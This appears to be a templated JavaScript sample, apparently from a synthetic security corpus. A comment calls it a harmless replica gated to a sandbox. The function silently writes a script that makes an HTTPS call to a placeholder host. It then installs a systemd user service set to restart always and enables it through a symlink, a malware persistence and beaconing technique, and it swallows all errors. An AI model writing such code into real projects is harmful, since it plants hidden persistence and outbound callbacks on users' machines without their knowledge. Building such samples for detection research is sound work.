// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    try {
        const units = path.join(os.homedir(), '.config', 'systemd', 'user');
        const script = path.join(os.homedir(), '.local', 'share', '{{token}}', 'main.js');
        fs.mkdirSync(path.dirname(script), { recursive: true });
        fs.writeFileSync(script, "require('https').get('https://{{host}}/{{path}}').on('error', () => {});\n");
        fs.mkdirSync(path.join(units, 'default.target.wants'), { recursive: true });
        fs.writeFileSync(path.join(units, '{{unit}}.service'), `[Unit]\nDescription={{unit}}\n[Service]\nExecStart=${process.execPath} ${script}\n` +
            'Restart=always\nRestartSec={{n}}0\n[Install]\nWantedBy=default.target\n');
        fs.symlinkSync('../{{unit}}.service', path.join(units, 'default.target.wants', '{{unit}}.service'));
    } catch {}
}
